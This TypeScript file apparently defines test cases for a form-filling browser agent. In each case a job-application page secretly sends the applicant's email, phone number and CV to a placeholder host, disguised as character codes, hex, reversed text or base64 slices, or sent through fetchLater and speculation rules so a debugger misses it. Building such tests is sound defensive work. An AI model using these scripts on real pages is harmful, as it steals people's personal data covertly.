import type { PageAttack, Stage } from '../attack';
import { frozenIn, unasked } from '../stage/judging';
import { applicationPage, field } from './markup';

const get = (way: string, query: string): string => `fetch('{{other}}/${way}?' + ${query}, { mode: 'no-cors' });`;
const post = (way: string, body: string): string =>
  `fetch('{{other}}/${way}', { method: 'POST', mode: 'no-cors', body: ${body} });`;
const codes = (radix: number): string => `[...email].map((one) => one.charCodeAt(0).toString(${radix}))`;

/** Ways to write what was filled in so that it is not found. All are tried on one page, each on a path of its own. */
const answers: Readonly<Record<string, string>> = {
  'char-codes': get('char-codes', `${codes(10)}.join(',')`),
  'char-codes-in-json': post('char-codes-in-json', `JSON.stringify([...email].map((one) => one.charCodeAt(0)))`),
  'hex-codes': get('hex-codes', `${codes(16)}.join('-')`),
  'octal-codes': post('octal-codes', `${codes(8)}.join(' ')`),
  'quoted-printable': post('quoted-printable', `${codes(16)}.map((one) => '=' + one).join('')`),
  'last-digits': get('last-digits', `'d=' + digits.slice(-7)`),
  'middle-digits': get('middle-digits', `'d=' + digits.slice(3, 10)`),
  'digits-turned-round': get('digits-turned-round', `'d=' + [...digits].reverse().join('').slice(0, 8)`),
};

/** The same of a document. */
const parts: Readonly<Record<string, string>> = {
  'piece-of-fifty': post('piece-of-fifty', `text.slice(160, 210)`),
  'turned-round': post('turned-round', `[...text.slice(100, 400)].reverse().join('')`),
  slices: `for (let at = 0; at < base64.length; at += 20) ${get('slices', `'n=' + at + '&d=' + encodeURIComponent(base64.slice(at, at + 20))`)}`,
  'its-name': get('its-name', `'f=' + file.name`),
};

const page = `${applicationPage(field('Resume/CV', 'cv', 'type="file"'))}<script>
const form = document.forms[0];
let isOver = false;
form.addEventListener('change', () => {
  const file = form.cv.files[0];
  if (isOver || !file || form.email.value === '' || form.phone.value === '') return;
  isOver = true;
  const email = form.email.value;
  const digits = form.phone.value.replace(/\\D/g, '');
  setTimeout(async () => {
    const text = await file.text();
    const base64 = btoa(String.fromCharCode(...new Uint8Array(await file.arrayBuffer()).slice(0, 600)));
    ${[...Object.values(answers), ...Object.values(parts)].join('\n')}
  }, 600);
});
</script>`;
const stage: Stage = { run: { kind: 'fill' }, settleMs: 3_000, pages: { site: { '/': page } } };

/** So many slices may be gone before enough of them are there to tell. */
const mostSlices = 3;

/** What was filled in, written so that nobody recognizes it. */
export const disguises: PageAttack[] = Object.keys({ ...answers, ...parts }).map((way) => ({
  id: `disguised/${way}`,
  class: 'disguised',
  goal: `what was filled in goes to a stranger in disguise: ${way.replaceAll('-', ' ')}`,
  needsBrowser: true,
  stage,
  judge(evidence) {
    const came = unasked(evidence).filter(({ role, path }) => role === 'other' && path.split('?')[0] === `/${way}`);
    return { bytesElsewhere: came.length > (way === 'slices' ? mostSlices : 0) ? 1 : 0, frozen: frozenIn(evidence) };
  },
}));

const rules = (kind: string, to: string): string =>
  `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ ${kind}: [{ urls: [${to}], eagerness: 'immediate' }] }) }))`;

/** Ways that no debugger holds; told to the user. */
const unheld: Readonly<Record<string, string>> = {
  'fetch-later': `fetchLater('{{other}}/collected?' + answers, { activateAfter: 0 })`,
  'speculation-prefetch': rules('prefetch', `'{{other}}/collected?' + answers`),
  'speculation-prerender': rules('prerender', `'/collected?' + answers`),
};

export const unheldSends: PageAttack[] = Object.entries(unheld).map(([way, act]) => ({
  id: `disguised/unheld/${way}`,
  class: 'disguised',
  goal: `what was filled in leaves past the debugger, by ${way.replaceAll('-', ' ')}`,
  needsBrowser: true,
  stage: {
    run: { kind: 'fill' },
    settleMs: 3_000,
    pages: {
      site: {
        '/': `${applicationPage()}<script>
const form = document.forms[0];
let isOver = false;
form.addEventListener('change', () => {
  if (isOver || form.email.value === '' || form.phone.value === '') return;
  isOver = true;
  const answers = new URLSearchParams([...new FormData(form)]).toString();
  ${act};
});
</script>`,
      },
    },
  },
  judge(evidence) {
    const came = unasked(evidence).filter(({ path }) => path.startsWith('/collected')).length;
    const isTold = evidence.told > 0;
    return { bytesElsewhere: isTold ? 0 : came, told: isTold ? came : 0, frozen: frozenIn(evidence) };
  },
}));
